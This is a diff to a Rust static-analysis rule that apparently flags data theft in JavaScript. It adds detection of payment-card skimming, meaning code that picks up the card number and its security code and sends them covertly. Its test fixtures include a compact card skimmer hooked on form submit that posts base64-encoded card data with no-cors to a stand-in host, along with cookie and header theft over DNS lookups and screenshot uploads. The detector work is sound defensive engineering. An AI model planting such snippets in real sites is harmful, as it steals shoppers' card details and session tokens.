@@ -9,7 +9,8 @@ crate::declare_rule! {
     /// address written into the code. The sources are the whole cookie jar (`document.cookie`
     /// used as a value, every Electron cookie, the request headers an Electron `webRequest` hook
     /// sees), Web Storage or React Native `AsyncStorage` walked key by key, the Keychain,
-    /// keystroke listeners, password and input fields, the clipboard, the screen
+    /// keystroke listeners, payment card fields (the card number and its security code picked
+    /// in one function), password and input fields, the clipboard, the screen
     /// (`screencapture`, `desktopCapturer`, `CopyFromScreen`, `import -window root`), and values
     /// picked out by a secret-shaped pattern (`/session|token|jwt/`, a JWT's `eyJ`). The send is a
     /// request, beacon, image, socket, datagram, upload or DNS lookup whose destination is a
@@ -39,6 +40,7 @@ crate::declare_rule! {
         "const queue = [];\nfunction hook(ses) { ses.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (d, cb) => { queue.push(d.requestHeaders); cb({}) }) }\nfunction flush() { const r = net.request({ method: 'POST', url: 'https://c.example.org/b' }); r.end(JSON.stringify(queue.splice(0))) }",
         "const dns = require('dns')\nfunction beacon(p) { dns.resolve4(Buffer.from(p).toString('hex') + '.q.example.net', () => {}) }\nmodule.exports = (req, res, next) => { const jar = String(req.headers.cookie).split(';').filter((kv) => /sess|token|jwt/.test(kv)); beacon(jar.join(';') + require('os').hostname()); next() }",
         "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
+        "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
     ],
     pass: [
@@ -48,6 +50,9 @@ crate::declare_rule! {
         "async function release() { return fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ tag: process.env.TAG }) }) }",
         "async function exportCookies() { const all = await session.defaultSession.cookies.get({}); fs.writeFileSync(file, JSON.stringify(all)) }\nfunction addHeaders(h) { session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['https://api.app.example/*'] }, (d, cb) => cb({ requestHeaders: Object.assign(d.requestHeaders, h) })) }\nasync function latest() { return (await fetch('https://updates.example.com/latest.json')).json() }",
         "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
+        "const API = 'https://api.pay.example/v1/tokens'\nfunction mount(form) { const card = form.querySelector('[data-card-number]'); const cvc = form.querySelector('[data-card-cvc]'); form.addEventListener('submit', async (e) => { e.preventDefault(); const r = await fetch(API, { method: 'POST', body: JSON.stringify({ number: card.value, cvc: cvc.value }) }); form.token.value = (await r.json()).id; form.submit() }) }",
+        "function bin(form) { const n = form.querySelector('[name=cardnumber]').value.replace(/\\D/g, ''); return fetch('https://lookup.binlist.example/' + n.slice(0, 6)) }",
+        "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
     ],
 }
@@ -111,7 +116,8 @@ fn sources(f: &FileCtx) -> Vec<Src> {
             "requestHeaders"
         ]
     ) {
-        let mut out = secret_pattern_uses(text);
+        let mut out = card_field_uses(f);
+        out.extend(secret_pattern_uses(text));
         out.extend(secret_env_uses(text));
         return out;
     }
@@ -192,8 +198,59 @@ fn sources(f: &FileCtx) -> Vec<Src> {
             });
         }
     }
+    out.extend(card_field_uses(f));
     out.extend(secret_pattern_uses(text));
     out.extend(secret_env_uses(text));
+    out
+}
+
+/// Payment card fields picked out of the page: a selector or pattern naming the card number
+/// (`/cc-?number|card.?num/`, `[name=cardnumber]`) and, in the same function, one naming the
+/// security code (`cvv`, `cvc`, `csc`). Only the card number and its code together charge a
+/// card, so a function that picks both from a form takes what a shop's customer typed. Payment
+/// SDKs do the same to tokenise the card with their own API and read the token back, in clear
+/// JSON; a skimmer sends a copy one way (image, beacon, socket, `no-cors`) or encodes it
+/// (`btoa`, base64), so only a file that does one of those has this source.
+fn card_field_uses(f: &FileCtx) -> Vec<Src> {
+    let text = f.text.as_str();
+    let Some(js) = &f.js else { return Vec::new() };
+    if !crate::mentions!(
+        text,
+        [
+            "cvv", "cvc", "csc", "CVV", "CVC", "CSC", "Cvv", "Cvc", "ecurity"
+        ]
+    ) {
+        return Vec::new();
+    }
+    let number =
+        crate::regex!(r#"(?i)['"`/\[=][^'"`\n]{0,40}?\b(?:cc|card)[-_.?\s\\]*num(?:ber)?"#);
+    let code = crate::regex!(
+        r#"(?i)['"`/\[=|][^'"`\n]{0,40}?\b(?:cvv2?|cvc2?|cc-?csc|csc|security[-_.?\s\\]*code)\b"#
+    );
+    let covert = crate::regex!(
+        r#"\bbtoa\(|toString\(\s*['"]base64|\bnew\s+(?:Image|WebSocket)\b|\.sendBeacon\(|['"]no-cors['"]"#
+    );
+    if !covert.is_match(text) {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    for m in number.find_iter(text).take(16) {
+        let sc = js.scope_of(m.start() as u32);
+        let body = unit_text(text, sc);
+        let base = sc.map_or(0, |(s, _)| s as usize);
+        let paired = code
+            .find_iter(body)
+            .take(16)
+            .any(|c| js.scope_of((base + c.start()) as u32) == sc);
+        if paired {
+            out.push(Src {
+                off: m.start() as u32,
+                kind: "payment card numbers and security codes",
+                strong: true,
+                name: String::new(),
+            });
+        }
+    }
     out
 }
 
